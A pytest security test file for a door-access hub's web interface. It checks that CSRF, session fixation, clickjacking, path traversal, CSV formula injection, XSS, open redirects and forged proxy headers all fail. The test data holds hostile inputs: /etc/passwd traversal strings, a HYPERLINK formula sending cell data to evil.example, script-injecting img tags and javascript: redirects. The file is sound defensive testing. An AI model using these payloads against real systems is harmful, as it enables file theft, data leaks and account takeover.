"""One attack each of what attacks such pages are known to suffer."""

import csv
import io
import re
import socket
import sqlite3
from pathlib import Path

import httpx
import pytest

from hub.config import HubConfig
from hub.roles import Role
from hub.store import access, open_store, writing
from hub.web.api.export import cell
from hub.web.security.limits import MOST_BYTES
from hub.web.security.secrets import kept, new_secret
from maskgate.messages import DisplayKind, EventType
from tests.hub.web.conftest import PASSWORD, Site, make_config
from tests.hub.web.hall import Hall

PICTURE = b"\xff\xd8\xff picture"


def sign_in(client: httpx.Client, password: str = PASSWORD, name: str = "a-operator", **more: str) -> httpx.Response:
    page = client.get("/sign-in").text
    found = re.search(r'name="csrf" value="([0-9a-f]+)"', page)
    assert found
    return client.post("/sign-in", data={"csrf": found[1], "name": name, "password": password, **more})


@pytest.fixture
def stranger(hall: Hall) -> httpx.Client:
    hall.session(Role.OPERATOR)  # so that there is such a person
    return httpx.Client(base_url=hall.url, timeout=20)


def test_csrf_a_page_of_somebody_else_commands_no_door(hall: Hall) -> None:
    with hall.browser(Role.OPERATOR) as victim:
        token = victim.headers.pop("X-CSRF-Token")
        for headers, form in (
            ({}, {}),
            ({"Content-Type": "text/plain"}, {}),
            ({"X-CSRF-Token": "0" * 40}, {}),
            ({"X-CSRF-Token": token, "Sec-Fetch-Site": "cross-site"}, {}),
        ):
            answer = victim.post("/api/v1/doors/front/emergency", content='{"active": true}', headers=headers | form)
            assert answer.status_code == 403, headers
        assert victim.get("/api/v1/doors/front").json()["state"]["emergency"] is False
        assert victim.post("/sign-out").status_code == 403
        assert victim.get("/api/v1/me").status_code == 200, "still signed in"
        headers = {"X-CSRF-Token": token, "Content-Type": "application/json"}
        answer = victim.post("/api/v1/doors/front/emergency", content='{"active": true}', headers=headers)
        assert answer.status_code == 200
        assert victim.get("/api/v1/doors/front").json()["state"]["emergency"] is True


def test_csrf_nobody_is_signed_in_as_somebody_else(hall: Hall, stranger: httpx.Client) -> None:
    answer = stranger.post("/sign-in", data={"name": "a-operator", "password": PASSWORD})
    assert answer.status_code == 400
    assert "maskgate" not in answer.cookies
    stranger.cookies.set("maskgate-form", "planted")
    assert stranger.post("/sign-in", data={"csrf": "x", "name": "a-operator", "password": PASSWORD}).status_code == 400


def test_fixation_a_session_that_was_planted_is_worth_nothing(hall: Hall, stranger: httpx.Client) -> None:
    planted = new_secret()
    stranger.cookies.set("maskgate", planted)
    answer = sign_in(stranger)
    assert answer.status_code == 303
    assert answer.cookies["maskgate"] != planted
    with httpx.Client(base_url=hall.url, cookies={"maskgate": planted}) as attacker:
        assert attacker.get("/api/v1/me").status_code == 401
    cookie = next(line for line in answer.headers.get_list("set-cookie") if line.startswith("maskgate="))
    assert "HttpOnly" in cookie
    assert "SameSite=lax" in cookie


def test_a_session_ends_by_itself_and_by_its_owner(hall: Hall, stranger: httpx.Client) -> None:
    assert sign_in(stranger).status_code == 303
    token = stranger.get("/api/v1/me").json()["csrf"]
    before = stranger.cookies["maskgate"]
    assert stranger.post("/sign-out", data={"csrf": token}).status_code == 303
    with httpx.Client(base_url=hall.url, cookies={"maskgate": before}) as thief:
        assert thief.get("/api/v1/me").status_code == 401
    for column in ("used_at", "created_at"):  # a week and a second ago
        secret = hall.session()
        with writing(hall.db) as tx:
            tx.exec_driver_sql(f"UPDATE sessions SET {column} = {column} - 604801000")  # noqa: S608
        with httpx.Client(base_url=hall.url, cookies={"maskgate": secret}) as late:
            assert late.get("/api/v1/me").status_code == 401, column


def test_clickjacking_no_page_with_anything_to_press_is_framed(hall: Hall) -> None:
    with hall.browser(Role.ADMIN) as client:
        for path in ("/", "/doors/front", "/people", "/account", "/sign-in", "/welcome", "/api/v1/doors", "/nowhere"):
            headers = client.get(path).headers
            assert "frame-ancestors 'none'" in headers["content-security-policy"], path
            assert headers["x-frame-options"] == "DENY", path


def test_path_traversal_a_picture_is_asked_for_by_no_file_name(hall: Hall, tmp_path: Path) -> None:
    (tmp_path / "secret-key").write_text("hush")
    passage = hall.passage(picture=PICTURE)
    with hall.browser(Role.OPERATOR) as client:
        assert client.get(f"/api/v1/passages/{passage}/picture").content == PICTURE
        for name in (
            "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2fsecret-key", f"{tmp_path}/secret-key",
            "....//....//etc/passwd", "%00", "..%5c..%5csecret-key", f"{passage}%00.jpg", "%25%32%65%25%32%65",
        ):  # fmt: skip
            for place in (f"/api/v1/passages/{name}/picture", f"/static/{name}"):
                answer = client.get(place)
                assert answer.status_code in (404, 422), place
                assert "root:" not in answer.text
                assert "hush" not in answer.text
        assert client.get(f"/api/v1/passages/{passage}/picture", params={"node": "../x"}).status_code == 422
        seen = [
            one for one in hall.browser(Role.ADMIN).get("/api/v1/audit").json()["items"] if one["action"] == "picture"
        ]
    assert [one["actor"] for one in seen] == ["a-operator"], "who looked is written down"


def test_csv_injection_no_cell_is_a_formula(hall: Hall) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    at = hall.clock.now()
    passage = hall.passage()
    with writing(hall.db) as tx:
        tx.exec_driver_sql("UPDATE decisions SET document = json_set(document, '$.text', ?)", (evil,))
    with hall.browser() as client:
        answer = client.get("/api/v1/export/passages.csv")
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert [row["passage"] for row in rows] == [passage]
    assert rows[0]["text"] == "'" + evil
    assert answer.headers["content-disposition"] == 'attachment; filename="passages.csv"'
    for start in ("=", "+", "-", "@", "|", "%", "\t=", " =", "\r\n@", "\n+", "\0=", "\ufeff=", "＝", "＋", "－", "＠"):
        for text in (f"{start}cmd", f"a;{start}cmd", f"a, {start}cmd"):  # many spreadsheets end a cell at a semicolon
            for part in re.split("[;,]", str(cell(text))):
                assert not part.lstrip("\0\ufeff \t\r\n").startswith(tuple("=+-@|%＝＋－＠")), repr(text)
    for plain in ("plain", "No mask, entry refused", "café - 10 %; later", "97%"):
        assert cell(plain) == plain
    assert at <= hall.clock.now()


def test_xss_by_names_and_topics(tmp_path: Path) -> None:
    evil = "<img src=x onerror=alert(1)>\"'"
    document = make_config().model_dump(mode="json", exclude={"database"})
    document["site"] = document["doors"][0]["name"] = document["doors"][1]["name"] = evil
    db = open_store(tmp_path / "hub.db")
    site = Site(db, HubConfig.model_validate(document))
    site.server.start()
    try:
        decision = site.decision(EventType.DENIED, text=evil, by=evil)
        site.happens(DisplayKind.MESSAGE, decision, text=evil, title="<b>", problem=evil)
        for path in (
            "/", "/doors/front", "/passages", "/charts", "/notices", "/nodes", "/account", "/sign-in", "/display/front",
            "/sign-in?next=/%22%3E%3Cimg%20src=x%3E", "/welcome?code=%22%3E%3Cimg%20src=x%3E",
            "/passages?since=%22%3E%3Cimg%20src=x%3E&door=%3Cimg%20src=x%3E",
        ):  # fmt: skip
            page = site.get(path)
            assert "<img src=x" not in page.text, path
            assert "unsafe" not in page.headers["content-security-policy"]
        api = site.get("/api/v1/doors")
        assert api.headers["content-type"] == "application/json"
        assert api.headers["x-content-type-options"] == "nosniff"
    finally:
        site.server.stop()
        db.dispose()


def test_a_sign_in_leads_to_no_other_site(hall: Hall, stranger: httpx.Client) -> None:
    for onward in (
        "https://evil.example/",
        "//evil.example",
        "/\\evil.example",
        "javascript:alert(1)",
        "/%0d%0aX: y\r\n",
    ):
        assert sign_in(stranger, next=onward).headers["location"] == "/", onward
    assert sign_in(stranger, next="/account?x=1").headers["location"] == "/account?x=1"


def test_a_body_that_never_ends_is_refused(hall: Hall) -> None:
    with hall.machine(Role.OPERATOR) as client:
        large = b"x" * (MOST_BYTES + 1)
        assert client.post("/api/v1/doors/front/message", content=large).status_code == 413
        assert client.post("/api/v1/doors/front/message", content=iter([large])).status_code == 413  # chunked
    with socket.create_connection(("127.0.0.1", hall.server.port), 5) as raw:
        raw.sendall(b"POST /sign-in HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999\r\n\r\n")
        assert b" 413 " in raw.recv(4096)


def test_the_store_holds_nothing_that_lets_anybody_in(hall: Hall, tmp_path: Path) -> None:
    secret = hall.session(Role.ADMIN)
    with hall.browser(Role.ADMIN) as admin:
        token = admin.post("/api/v1/tokens", json={"name": "grafana"}).json()["secret"]
        link = admin.post("/api/v1/people", json={"name": "eve", "role": "viewer"}).json()["link"]
    with sqlite3.connect(tmp_path / "hub.db") as raw:
        dump = "\n".join(raw.iterdump())
    for shown in (secret, token, link.split("code=")[1], PASSWORD):
        assert shown not in dump
    assert kept(secret) in dump
    assert "$argon2id$" in dump
    assert access.person(hall.db, "a-admin") is not None


def test_nobody_is_believed_who_says_for_whom_they_ask(tmp_path: Path) -> None:
    """A forged X-Forwarded-For is neither an address nor this machine, unless a trusted proxy says it."""
    db = open_store(tmp_path / "hub.db")
    for trusted, address in ((), "127.0.0.1"), (("127.0.0.0/8",), "203.0.113.9"):
        document = make_config().model_dump(mode="json", exclude={"database"})
        document["web"] |= {"trusted_proxies": trusted}
        site = Site(db, HubConfig.model_validate(document))
        site.session(Role.OPERATOR)
        site.server.start()
        try:
            headers = {"X-Forwarded-For": "203.0.113.9", "X-Forwarded-Proto": "https" if trusted else "http"}
            with httpx.Client(base_url=site.url, headers=headers) as client:
                assert client.get("/metrics").status_code == 401
                page = client.get("/sign-in")
                assert ("secure" in page.headers["set-cookie"].lower()) == bool(trusted)
                client.post("/sign-in", data={"csrf": re.findall(r'csrf" value="(\w+)', page.text)[0],
                                              "name": "a-operator", "password": "wrong"},
                            headers={"Cookie": page.headers["set-cookie"].split(";")[0]})  # fmt: skip
            with db.connect() as connection:
                keys = connection.exec_driver_sql("SELECT key FROM attempts").scalars().all()
            assert f"addr:{address}" in keys
        finally:
            site.server.stop()
    db.dispose()
